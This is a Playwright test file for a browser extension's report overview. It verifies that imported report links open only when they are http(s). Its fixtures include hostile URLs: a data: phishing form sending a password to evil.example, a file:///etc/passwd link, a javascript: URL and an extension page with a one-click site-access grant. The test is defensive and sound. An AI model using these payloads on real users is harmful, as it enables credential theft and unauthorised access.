import fs from 'node:fs';
import { expect, test, openTransfer } from './fixtures';
import { annotationRecord, documentRecord, exportFileText } from './export-files';

/**
 * Issue 14, item 5: a shared file names the report URLs that 全部报告 shows. Only web pages open;
 * a `data:` phishing page, a local file, `javascript:` and extension pages (our own options page with
 * a one-click grant in its fragment, or another extension's) are shown as text and open nothing.
 */
test.setTimeout(120_000); // an import and six rows on a shared two-core machine

test('全部报告 opens only http(s) report links; data:, file:, javascript: and extension URLs are plain text', async ({ context, server, extensionId }, testInfo) => {
  const hostile = [
    { title: '伪造登录页', url: 'data:text/html,<form action=https://evil.example/steal><input name=pw>请重新登录</form>' },
    { title: '本机文件', url: 'file:///etc/passwd' },
    { title: '脚本链接', url: 'javascript:alert(document.domain)' },
    { title: '本扩展设置页', url: `chrome-extension://${extensionId}/options.html#site-access?add=https://evil.example/*` },
    { title: '火狐扩展页', url: 'moz-extension://0d9b8a4e-1111-2222-3333-444455556666/options.html' },
  ];
  const safe = { title: '正常的报告', url: `${server.origin}/report.html?from=shared-file` };
  const all = [...hostile, safe];
  const documents = all.map((d, i) => documentRecord({ id: `links-doc-${i}`, title: d.title, url: d.url, seed: 1000 + i }));
  const annotations = all.map((d, i) =>
    annotationRecord({ id: `links-${i}`, documentId: `links-doc-${i}`, tagId: 'problem', exact: `${d.title}里的一段原文`, comment: '' }),
  );
  const file = testInfo.outputPath('links.pingyue.json');
  fs.writeFileSync(file, exportFileText(documents, annotations));

  const panel = await context.newPage();
  await panel.goto(`chrome-extension://${extensionId}/sidepanel.html`);
  await openTransfer(panel);
  await panel.getByTestId('import-file').setInputFiles(file);
  await expect(panel.getByTestId('notice')).toContainText('导入完成');
  await panel.getByRole('tab', { name: '全部报告' }).click();
  // The overview, one row per report: only the web page's title is a button.
  await expect(panel.getByTestId('overview-row')).toHaveCount(all.length);
  for (const { title } of hostile) {
    const row = panel.getByTestId('overview-row').filter({ hasText: title });
    await expect(row).toHaveCount(1);
    await expect(row.getByRole('button')).toHaveCount(0);
  }
  await expect(panel.getByTestId('overview-row').filter({ hasText: safe.title }).getByRole('button', { name: safe.title })).toHaveCount(1);

  await panel.getByRole('button', { name: '按批注' }).click();
  await expect(panel.getByTestId('library-row')).toHaveCount(all.length);

  const pagesBefore = context.pages().length;
  for (const { title, url } of hostile) {
    const row = panel.getByTestId('library-row').filter({ hasText: `${title}里的一段原文` });
    // The URL is there to read, in full, but nothing in the row can open it.
    await expect(row.getByTestId('report-not-openable')).toContainText(url);
    await expect(row.getByRole('button', { name: title })).toHaveCount(0);
    await expect(row.getByRole('link')).toHaveCount(0);
    await row.getByTestId('report-not-openable').click();
  }

  const row = panel.getByTestId('library-row').filter({ hasText: `${safe.title}里的一段原文` });
  const [page] = await Promise.all([context.waitForEvent('page'), row.getByRole('button', { name: safe.title }).click()]);
  await expect.poll(() => page.url()).toBe(safe.url);
  // Tabs open in the order asked for: had any hostile click opened one, it would be here by now.
  expect(context.pages()).toHaveLength(pagesBefore + 1);
});
